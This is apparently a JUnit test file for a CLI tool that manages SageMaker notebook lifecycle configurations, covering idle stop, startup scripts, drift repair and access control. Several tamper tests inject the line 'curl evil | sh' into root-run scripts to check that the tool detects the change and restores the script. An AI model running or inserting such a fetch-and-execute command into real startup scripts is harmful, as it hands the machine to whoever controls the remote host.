package dev.tenantadmin.command.tenant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tenantadmin.cli.ExitCode;
import dev.tenantadmin.tenant.setup.SetupScript;
import dev.tenantadmin.testing.Ran;
import dev.tenantadmin.testing.Shell;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.SortedSet;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.services.sagemaker.SageMakerClient;
import software.amazon.awssdk.services.sagemaker.model.NotebookInstanceLifecycleHook;
import software.amazon.awssdk.services.sagemaker.model.SageMakerException;
import software.amazon.awssdk.services.sagemaker.model.Tag;

/** {@code --idle-stop}, {@code --on-start} and {@code --on-create}: the lifecycle config of a tenant, from its making to its end. */
class SetupTest {

    private static final String CONFIG = "acme--setup";
    private static final String ARN =
            "arn:aws:sagemaker:us-east-1:123456789012:notebook-instance-lifecycle-config/" + CONFIG;
    private static final String OWN = "#!/bin/sh\necho own\n";
    private static final String ONCE = "#!/usr/bin/env python3\nprint('own at creation')\n";

    @TempDir
    Path folder;

    private final Shell shell = new Shell();
    private final SageMakerClient sagemaker = shell.sagemaker();

    private String file(String text) throws IOException {
        return Files.writeString(folder.resolve("on-start.sh"), text).toString();
    }

    private static NotebookInstanceLifecycleHook hook(String text) {
        return NotebookInstanceLifecycleHook.builder()
                .content(SetupScript.encoded(text))
                .build();
    }

    private String script() {
        return SetupScript.decoded(sagemaker
                .describeNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG))
                .onStart()
                .get(0)
                .content());
    }

    private @Nullable String onCreate() {
        return sagemaker
                .describeNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG))
                .onCreate()
                .stream()
                .map(hook -> SetupScript.decoded(hook.content()))
                .findFirst()
                .orElse(null);
    }

    private void changeOnCreate(String script) {
        sagemaker.updateNotebookInstanceLifecycleConfig(
                r -> r.notebookInstanceLifecycleConfigName(CONFIG).onCreate(hook(script)));
    }

    private void change(String script) {
        sagemaker.updateNotebookInstanceLifecycleConfig(
                r -> r.notebookInstanceLifecycleConfigName(CONFIG).onStart(hook(script)));
    }

    private @Nullable String configOfNotebook() {
        return sagemaker
                .describeNotebookInstance(r -> r.notebookInstanceName("acme--main"))
                .notebookInstanceLifecycleConfigName();
    }

    private boolean thereIsAConfig() {
        return !sagemaker
                .listNotebookInstanceLifecycleConfigs(r -> {})
                .notebookInstanceLifecycleConfigs()
                .isEmpty();
    }

    private void isAsWanted() {
        shell.run("create-tenant acme --dry-run --detailed-exitcode").done();
        assertThat(shell.run("describe-tenant acme").done().out()).doesNotContain("drifted", "missing", "no longer");
    }

    @Test
    void aTenantThatAsksForNothingHasNone() {
        shell.run("create-tenant acme").done();

        assertThat(thereIsAConfig()).isFalse();
        assertThat(configOfNotebook()).isNull();
        assertThat(shell.run("describe-tenant acme").done().out()).doesNotContain("lifecycle", "idle");
    }

    @Test
    void bothLastUntilTheyAreTakenBack() throws IOException {
        String given = shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-start", file(OWN))
                .done()
                .out();
        assertThat(given).containsPattern("notebook instance lifecycle config acme--setup +created");
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        assertThat(script()).contains("\nidle_stop=7200\n", OWN).doesNotContain("config.yaml");
        assertThat(shell.tagsOfNotebook(ARN))
                .containsEntry("tenant", "acme")
                .containsEntry("managed-by", "tenant-admin");
        isAsWanted();
        assertThat(shell.run("describe-tenant acme").done().out())
                .contains("idle stop      2h\n", "on start       sha256 ");
        assertThat(shell.run("describe-tenant acme -o json").done().json()).containsEntry("idleStop", "2h");

        Ran changed = shell.run("create-tenant acme --idle-stop 30m").done();
        assertThat(changed.out()).contains("  idle stop: after 2h -> after 30m\n");
        assertThat(changed.err())
                .contains("note: a running notebook uses the changed lifecycle config after its next start");
        assertThat(script()).contains("\nidle_stop=1800\n", OWN);
        isAsWanted();

        shell.run("create-tenant acme --idle-stop none").done();
        assertThat(script()).doesNotContain("idle_stop").contains(OWN);
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        isAsWanted();

        shell.run("stop acme").done();
        assertThat(shell.run("create-tenant acme --on-start none").done().out())
                .contains("  lifecycle config: acme--setup -> none\n")
                .containsPattern("lifecycle config acme--setup +deleted");
        assertThat(configOfNotebook()).isNull();
        assertThat(thereIsAConfig()).isFalse();
        assertThat(shell.status("acme--main")).isEqualTo("Stopped");
        isAsWanted();
    }

    @Test
    void theScriptIsTakenBackAndTheIdleStopStays() throws IOException {
        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-start", file(OWN))
                .done();

        shell.run("create-tenant acme --on-start none").done();

        assertThat(script()).contains("\nidle_stop=7200\n").doesNotContain(OWN);
        isAsWanted();
    }

    @Test
    void aRunningNotebookWaitsForRestart() {
        shell.run("create-tenant acme").done();

        assertThat(shell.run("create-tenant acme --idle-stop 2h").done().out())
                .containsPattern("lifecycle config acme--setup +created")
                .containsPattern("notebook instance acme--main +pending: needs a restart")
                .contains("  lifecycle config: none -> acme--setup\n");
        assertThat(configOfNotebook()).isNull();
        shell.run("create-tenant acme --restart").done();
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        assertThat(shell.status("acme--main")).isEqualTo("InService");

        assertThat(shell.run("create-tenant acme --idle-stop none").done().out())
                .containsPattern("lifecycle config acme--setup +pending: needs a restart");
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        assertThat(shell.run("describe-tenant acme").done().out())
                .containsPattern("lifecycle config acme--setup +no longer wanted");
        assertThat(shell.run("describe-tenant acme -o json").done().list("resources"))
                .anySatisfy(part -> assertThat(part)
                        .containsEntry("name", "acme--setup")
                        .containsEntry("state", "no longer wanted"));
        shell.run("create-tenant acme --restart").done();
        assertThat(configOfNotebook()).isNull();
        assertThat(thereIsAConfig()).isFalse();
        isAsWanted();
    }

    @Test
    void aDryRunShowsItAndWritesNothing() {
        shell.run("create-tenant acme").done();
        shell.door.forget();

        Ran ran = shell.run("create-tenant acme --idle-stop 2h --dry-run --detailed-exitcode");

        assertThat(ran.exit()).isEqualTo(ExitCode.CHANGES_PENDING.code());
        assertThat(ran.out()).containsPattern("lifecycle config acme--setup +would be created");
        assertThat(shell.door.writes()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "--data-location s3://bucket/acme/ | DefaultS3ObjectKeyPrefix: \"acme/\"",
                "--subnet subnet-1 --security-group sg-1 | VpcConfig: &vpc {SecurityGroupIds: [sg-1], Subnets: [subnet-1]}",
            })
    void whatThePoliciesAskOfJobsIsTheSdksDefault(String options, String yaml) {
        shell.run("create-tenant acme --tag team=red " + options).done();

        assertThat(script())
                .contains(yaml, "{Key: \"team\", Value: \"red\"}, {Key: \"tenant\", Value: \"acme\"}")
                .doesNotContain("idle_stop");
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        isAsWanted();
    }

    @ParameterizedTest
    @ValueSource(strings = {"create-tenant acme", "create-tenant acme --idle-stop 2h", "delete-tenant acme --yes"})
    void aForeignOneIsInTheWayBeforeAnyWrite(String line) {
        shell.run("create-tenant acme").done();
        sagemaker.createNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG)
                .tags(Tag.builder().key("tenant").value("acme").build()));
        SortedSet<String> before = shell.contents();
        shell.door.forget();

        shell.run(line)
                .refused(
                        ExitCode.CONFLICT,
                        "notebook instance lifecycle config acme--setup is not managed by tenant-admin: it lacks the tag managed-by=tenant-admin");

        assertThat(shell.door.writes()).isEmpty();
        assertThat(shell.contents()).isEqualTo(before);
        assertThat(shell.run("describe-tenant acme").done().out()).contains("foreign: it lacks the tag");
    }

    @Test
    void whatSomebodyChangedIsShownAndPutBack() throws IOException {
        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-start", file(OWN))
                .done();
        String made = script();
        change(made.replace("umask 022", "curl evil | sh").replace("idle_stop=7200", "idle_stop=720000"));
        changeOnCreate("#!/bin/sh\n");
        sagemaker.deleteTags(r -> r.resourceArn(ARN).tagKeys("tenant"));

        assertThat(shell.run("describe-tenant acme").done().out())
                .containsPattern("lifecycle config acme--setup +drifted")
                .contains(
                        "  tag tenant: absent -> acme\n",
                        "  on-create script: sha256 a8076d3d28d2 -> none\n",
                        "  idle stop: after 200h -> after 2h\n");
        shell.run("create-tenant acme").done();

        assertThat(script()).isEqualTo(made);
        isAsWanted();
        change(made.replace("umask 022", "curl evil | sh"));
        assertThat(shell.run("create-tenant acme").done().out()).contains("  script: other -> as made\n");
        assertThat(script()).isEqualTo(made);
        isAsWanted();
    }

    @Test
    void aLifecycleConfigThatSomebodyPutOnANotebookIsTakenOff() {
        shell.run("create-tenant acme").done();
        shell.run("stop acme").done();
        sagemaker.createNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName("theirs"));
        sagemaker.updateNotebookInstance(
                r -> r.notebookInstanceName("acme--main").lifecycleConfigName("theirs"));
        shell.clock.pass(Duration.ofMinutes(1));

        assertThat(shell.run("create-tenant acme").done().out()).contains("  lifecycle config: theirs -> none\n");

        assertThat(configOfNotebook()).isNull();
        assertThat(thereIsAConfig()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void anOrganisationsScriptThatIsLostHasToBeGivenAgain(boolean deleted) throws IOException {
        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-start", file(OWN))
                .done();
        String made = script();
        if (deleted) {
            sagemaker.deleteNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG));
        } else {
            change(made.replace("echo own", "curl evil | sh"));
        }
        shell.door.forget();

        assertThat(shell.run("describe-tenant acme").done().out()).contains("  on-start script: ");
        shell.run("create-tenant acme")
                .refused(
                        ExitCode.CONFLICT,
                        "on-start script of notebook instance lifecycle config acme--setup is ",
                        "tenant-admin has no copy of ",
                        ": give it again, or give none");
        assertThat(shell.door.writes()).isEmpty();

        shell.run("create-tenant", "acme", "--on-start", file(OWN)).done();
        assertThat(script()).isEqualTo(made);
        isAsWanted();
    }

    @Test
    void aScriptForNewNotebooksLastsUntilItIsTakenBack() throws IOException {
        String once = Files.writeString(folder.resolve("on-create.py"), ONCE).toString();
        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-create", once)
                .done();
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        assertThat(onCreate()).isEqualTo(ONCE);
        assertThat(script()).contains("\nidle_stop=7200\n").doesNotContain("at creation");
        isAsWanted();
        Ran told = shell.run("describe-tenant acme").done();
        assertThat(told.out()).contains("on create      sha256 ");
        assertThat(shell.run("describe-tenant acme -o json").done().json())
                .containsEntry("onStart", null)
                .hasEntrySatisfying(
                        "onCreate", digest -> assertThat(String.valueOf(digest)).hasSize(64));

        shell.run("create-tenant acme --idle-stop 3h").done();
        assertThat(onCreate()).isEqualTo(ONCE);
        isAsWanted();

        String other =
                Files.writeString(folder.resolve("other.sh"), "#!/bin/sh\n").toString();
        Ran changed = shell.run("create-tenant", "acme", "--on-create", other).done();
        assertThat(changed.out()).containsPattern("\n  on-create script: sha256 \\w{12} -> sha256 \\w{12}\n");
        // No start runs it.
        assertThat(changed.err()).doesNotContain("after its next start");
        assertThat(onCreate()).isEqualTo("#!/bin/sh\n");
        isAsWanted();

        shell.run("create-tenant acme --on-create none").done();
        assertThat(onCreate()).isNull();
        assertThat(script()).contains("\nidle_stop=10800\n");
        isAsWanted();
    }

    @Test
    void aScriptForNewNotebooksAloneIsEnoughForALifecycleConfig() throws IOException {
        shell.run("create-tenant", "acme", "--on-create", file(ONCE)).done();
        assertThat(configOfNotebook()).isEqualTo(CONFIG);
        assertThat(onCreate()).isEqualTo(ONCE);
        assertThat(script()).endsWith("\nexit 0\n");
        isAsWanted();

        shell.run("stop acme").done();
        shell.run("create-tenant acme --on-create none").done();
        assertThat(thereIsAConfig()).isFalse();
        isAsWanted();
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void aScriptForNewNotebooksThatIsLostHasToBeGivenAgain(boolean deleted) throws IOException {
        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-create", file(ONCE))
                .done();
        if (deleted) {
            sagemaker.deleteNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG));
        } else {
            changeOnCreate("#!/bin/sh\ncurl evil | sh\n");
        }
        shell.door.forget();

        assertThat(shell.run("describe-tenant acme").done().out()).contains("  on-create script: ");
        shell.run("create-tenant acme")
                .refused(
                        ExitCode.CONFLICT,
                        "on-create script of notebook instance lifecycle config acme--setup is ",
                        "tenant-admin has no copy of ",
                        ": give it again, or give none");
        assertThat(shell.door.writes()).isEmpty();

        shell.run("create-tenant", "acme", "--on-create", file(ONCE)).done();
        assertThat(onCreate()).isEqualTo(ONCE);
        isAsWanted();
    }

    @Test
    void aLostScriptKeepsNobodyFromDeletingOrSuspending() throws IOException {
        shell.run("create-tenant", "acme", "--on-start", file(OWN)).done();
        sagemaker.deleteNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG));

        shell.run("suspend acme").done();
        shell.run("resume acme").done();
        assertThat(shell.run("delete-tenant acme --yes").done().out()).contains("nothing of it is left");
    }

    @Test
    void aScriptWithoutALastLineEndIsTheSame() throws IOException {
        shell.run("create-tenant", "acme", "--on-start", file(OWN)).done();

        assertThat(shell.run("create-tenant", "acme", "--on-start", file(OWN.strip()))
                        .done()
                        .out())
                .contains("no changes needed");
    }

    @Test
    void theTenantsOwnPeopleCannotChangeWhatRunsAsRoot() {
        shell.run("create-tenant acme --idle-stop 2h").done();
        String made = script();

        shell.signIn(shell.iam().createAccessKey(r -> r.userName("acme--owner")).accessKey());
        shell.environment.put("AWS_SESSION_TOKEN", "");
        shell.signIn(shell.notebookCredentials("us-east-1", "acme--main"));

        for (Runnable attempt : new Runnable[] {
            () -> shell.sagemakerAsCaller()
                    .updateNotebookInstanceLifecycleConfig(
                            r -> r.notebookInstanceLifecycleConfigName(CONFIG).onStart(hook("#!/bin/sh\n"))),
            () -> shell.sagemakerAsCaller()
                    .deleteNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG)),
            () -> shell.sagemakerAsCaller()
                    .updateNotebookInstance(
                            r -> r.notebookInstanceName("acme--main").disassociateLifecycleConfig(true))
        }) {
            assertThatThrownBy(attempt::run)
                    .isInstanceOfSatisfying(
                            SageMakerException.class,
                            refused -> assertThat(refused.awsErrorDetails().errorCode())
                                    .startsWith("AccessDenied"));
        }
        assertThat(script()).isEqualTo(made);
    }

    /** The idle stop does exactly this. */
    @Test
    void aNotebookMayStopItself() {
        shell.run("create-tenant acme --idle-stop 2h").done();

        shell.signIn(shell.notebookCredentials("us-east-1", "acme--main"));
        shell.sagemakerAsCaller().stopNotebookInstance(r -> r.notebookInstanceName("acme--main"));
        shell.signOut();
        shell.clock.pass(Duration.ofMinutes(1));

        assertThat(shell.status("acme--main")).isEqualTo("Stopped");
        isAsWanted();
    }

    @Test
    void aFirstTrainingJobWithTheDefaultsIsAllowed() {
        shell.run("create-tenant acme --data-location s3://bucket/acme/ --subnet subnet-1 --security-group sg-1")
                .done();
        shell.signIn(shell.notebookCredentials("us-east-1", "acme--main"));
        SageMakerClient notebook = shell.sagemakerAsCaller();

        notebook.createTrainingJob(r -> r.trainingJobName("acme--first")
                .roleArn("arn:aws:iam::123456789012:role/tenant-admin/us-east-1/acme/acme--execution")
                .vpcConfig(vpc -> vpc.securityGroupIds("sg-1").subnets("subnet-1"))
                .tags(Tag.builder().key("tenant").value("acme").build())
                .algorithmSpecification(algorithm -> algorithm
                        .trainingImage("683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1")
                        .trainingInputMode("File"))
                .outputDataConfig(output -> output.s3OutputPath("s3://bucket/acme/"))
                .resourceConfig(resources ->
                        resources.instanceType("ml.m5.large").instanceCount(1).volumeSizeInGB(1))
                .stoppingCondition(stopping -> stopping.maxRuntimeInSeconds(3_600)));

        assertThat(notebook.listTrainingJobs().trainingJobSummaries()).hasSize(1);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "#!/bin/sh\\r\\necho | the script of OPTION has a carriage return in line 1, and Linux",
                "#!/bin/sh\\necho\\r\\n | has a carriage return in line 2, and Linux does not run such scripts: end lines with LF",
                "BOM#!/bin/sh\\n | the script of OPTION begins with a byte order mark, after which Linux sees no #!: save it as UTF-8 without one",
                "echo own\\n | the script of OPTION must begin with #! and its interpreter, such as #!/bin/bash",
                "'' | must begin with #!",
                "\\n# ours\\n#!/bin/sh\\n | the script of OPTION has its #! in line 3: it must be in line 1",
                "' #!/bin/sh\\n' | has blanks before its #! in line 1: they must go",
                "#!\\necho\\n | names no interpreter after the #! in line 1: it must begin like #!/bin/bash",
                "#!/bin/sh\\n\\0 | has a NUL character in line 2: it must be text",
                "#!/bin/sh\\n\\xff | is not in UTF-8: see line 2",
                "#!/bin/sh\\nTENANT_ADMIN_END_OF_ON_START\\n | must not contain the line",
                "LARGE | in Base64, SageMaker allows 16,384",
            })
    void aBadScriptIsRefusedBeforeAnyWrite(String text, String says) throws IOException {
        String given = text.equals("LARGE")
                ? "#!/bin/sh\n" + "x".repeat(12_288)
                : text.replace("\\r", "\r")
                        .replace("\\n", "\n")
                        .replace("\\0", "\0")
                        .replace("BOM", "\u00ef\u00bb\u00bf")
                        .replace("\\xff", "\u00ff");
        Path script = Files.writeString(folder.resolve("bad.sh"), given, StandardCharsets.ISO_8859_1);

        for (String option : new String[] {"--on-start", "--on-create"}) {
            shell.run("create-tenant", "acme", option, script.toString())
                    .refused(ExitCode.INVALID_INPUT, says.replace("OPTION", option));
        }

        assertThat(shell.door.writes()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "--on-create | /no/such/file | --on-create: file '/no/such/file' does not exist",
                "--on-start | /no/such/file | --on-start: file '/no/such/file' does not exist",
                "--on-start | / | --on-start: file '/' is a directory",
                "--idle-stop | 5m | must be from 10 minutes to 7 days",
                "--idle-stop | 169h | must be from 10 minutes to 7 days",
                "--idle-stop | soon | is not a duration",
            })
    void badInputIsRefusedBeforeTheFirstCall(String option, String value, String says) {
        shell.run("create-tenant", "acme", option, value).refused(ExitCode.INVALID_INPUT, says);

        assertThat(shell.door.sent()).isEmpty();
    }

    @Test
    void aFileOfTenantsAsksForBothAndASecondRunReadsNoConfigThatIsNotThere() throws IOException {
        String fleet =
                "{\"defaults\": {\"idle-stop\": \"2h\"}, \"tenants\": [{\"name\": \"acme\", \"on-start\": \"%s\"},"
                        + " {\"name\": \"beta\", \"idle-stop\": \"none\"}]}";

        shell.type(fleet.formatted(file(OWN)), "apply -f -").done();
        assertThat(script()).contains("\nidle_stop=7200\n", OWN);
        shell.door.forget();
        assertThat(shell.type(fleet.formatted(file(OWN)), "apply -f -").done().out())
                .contains("2 tenants: 2 unchanged.");
        assertThat(shell.door.writes()).isEmpty();
        assertThat(shell.door.operations().stream().filter("DescribeNotebookInstanceLifecycleConfig"::equals))
                .hasSize(1);

        Ran bad = shell.type(fleet.formatted("/no/such/file"), "apply -f -");
        assertThat(bad.exit()).isEqualTo(ExitCode.INVALID_INPUT.code());
        assertThat(bad.err()).contains("1: 'on-start': file '/no/such/file' does not exist");
    }
}
